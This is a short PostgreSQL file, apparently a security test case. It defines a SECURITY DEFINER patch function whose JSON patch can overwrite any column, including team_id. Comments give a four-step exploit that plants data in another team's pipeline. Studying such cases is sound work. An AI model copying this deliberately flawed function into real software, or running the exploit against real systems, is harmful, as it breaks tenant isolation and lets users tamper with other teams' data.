-- The patch may hold any column, the team too: a pipeline is pushed into another team.
-- about: patch_pipeline, pipelines
-- as: hf_pipelines_app
-- exploit: SET pipe.team_id = '1001';
-- exploit: SELECT pipe.patch_pipeline('own', '{"team_id": 2002, "description": "planted here"}');
-- exploit: SET pipe.team_id = '2002';
-- exploit: SELECT pipeline || ' is ' || description AS found FROM pipe.list_pipelines();
-- shows: own is planted here
-- The form sends the fields that were changed.
SET ROLE hf_pipelines_owner;
CREATE FUNCTION pipe.patch_pipeline(which text, patch jsonb) RETURNS void
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  UPDATE pipe_data.pipelines p
  SET (team_id, pipeline, description, config) = (
    SELECT n.team_id, n.pipeline, n.description, n.config FROM jsonb_populate_record(p, patch) n)
  WHERE p.team_id = pipe.team() AND p.pipeline = which
$$;
REVOKE EXECUTE ON FUNCTION pipe.patch_pipeline(text, jsonb) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION pipe.patch_pipeline(text, jsonb) TO hf_pipelines_app;
RESET ROLE;
